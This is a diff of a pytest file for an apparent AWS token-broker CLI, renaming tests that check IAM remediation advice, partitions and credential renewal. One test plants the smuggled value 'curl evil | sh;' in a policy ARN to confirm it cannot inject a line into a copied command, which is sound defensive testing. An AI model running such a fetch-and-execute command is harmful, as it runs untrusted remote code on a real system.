@@ -86,9 +86,7 @@ def json_in(text: str) -> Any:
         (f"arn:aws-cn:iam::{ACCOUNT}:user/{SSO_ROLE}", f"{ACCOUNT}:user/{SSO_ROLE}"),
     ],
 )
-def test_the_rule_to_ask_for_grants_the_caller_what_it_lacks(
-    consult: Consult, tmp_path: Path, arn: str, principal: str
-) -> None:
+def test_the_proposed_rule_grants_access(consult: Consult, tmp_path: Path, arn: str, principal: str) -> None:
     finding = consult(arn, NO_GRANT)
 
     rule = json_in(finding["fix"])
@@ -151,18 +149,14 @@ def test_a_service_linked_role_cannot_be_changed(consult: Consult) -> None:
         (f"arn:aws:iam::{ACCOUNT}:user/team/ada", ["attach-user-policy", "--user-name", "ada"]),
     ],
 )
-def test_in_the_brokers_own_account_its_policy_is_attached(
-    consult: Consult, arn: str, flags: list[str]
-) -> None:
+def test_in_the_brokers_account_its_policy_is_attached(consult: Consult, arn: str, flags: list[str]) -> None:
     fix = consult(arn, REFUSED, may_read_stack=True)["fix"]
 
     (line,) = (line for line in fix.splitlines() if line.startswith("aws iam "))
     assert shlex.split(line) == ["aws", "iam", *flags, "--policy-arn", POLICY_ARN]
 
 
-def test_an_output_of_the_stack_adds_no_line_to_what_a_person_copies(
-    consult: Consult, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_stacks_output_adds_no_line_to_a_command(consult: Consult, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setitem(globals(), "POLICY_ARN", f"{POLICY_ARN}\ncurl evil | sh;")
 
     fix = consult(f"{ASSUMED}/orders/s", REFUSED, may_read_stack=True)["fix"]
@@ -172,7 +166,7 @@ def test_an_output_of_the_stack_adds_no_line_to_what_a_person_copies(
     assert len(shlex.split(line)) == 7
 
 
-def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_takes(consult: Consult) -> None:
+def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_needs(consult: Consult) -> None:
     fix = consult(f"{ASSUMED}/orders/s", REFUSED)["fix"]
 
     assert "aws iam attach" not in fix
@@ -218,9 +212,7 @@ def test_a_statement_to_add_names_the_partition_of_the_region(
     assert {resource.split(":")[1] for resource in resources} == {partition}
 
 
-def test_the_statement_for_a_known_function_names_the_partition_of_the_caller(
-    consult: Consult, aws_says: dict[str, Any]
-) -> None:
+def test_the_statement_names_the_partition_of_the_caller(consult: Consult, aws_says: dict[str, Any]) -> None:
     arn = f"arn:aws-us-gov:sts::{ACCOUNT}:assumed-role/orders/s"
     simulate = Mock(return_value={"EvaluationResults": [{"EvalDecision": "implicitDeny"}]})
     aws_says["SimulatePrincipalPolicy"] = simulate
@@ -234,7 +226,7 @@ def test_the_statement_for_a_known_function_names_the_partition_of_the_caller(
     assert asked == {f"arn:aws-us-gov:iam::{ACCOUNT}:role/orders"}
 
 
-def test_no_source_takes_it_for_granted_in_which_partition_it_is() -> None:
+def test_no_source_assumes_a_partition() -> None:
     sources = [ROOT / "template.yaml", *(ROOT / "functions").rglob("*.py"), *(ROOT / "layers").rglob("*.py")]
 
     assert len(sources) > 50
@@ -242,9 +234,7 @@ def test_no_source_takes_it_for_granted_in_which_partition_it_is() -> None:
 
 
 @pytest.mark.parametrize("source", [*remedies._RENEWALS, "some-new-provider"])
-def test_bad_credentials_are_renewed_where_they_came_from(
-    consult: Consult, monkeypatch: pytest.MonkeyPatch, source: str
-) -> None:
+def test_each_source_has_its_renewal(consult: Consult, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
     monkeypatch.setattr("token_broker.cli.deployment.Deployment.credential_source", source)
 
     finding = consult(f"{ASSUMED}/orders/s", BAD_KEY)
@@ -299,7 +289,7 @@ def test_what_a_credential_process_says_is_not_shown(
 )
 @pytest.mark.parametrize("command", ["connection list --prefix p", "mints"])
 @pytest.mark.usefixtures("broker")
-def test_each_way_in_which_aws_is_not_asked_has_its_code_and_advice(
+def test_each_failed_aws_call_has_its_code_and_advice(
     run: Run, aws_says: dict[str, Any], command: str, error: Exception, exit_code: int, said: str
 ) -> None:
     aws_says[""] = error
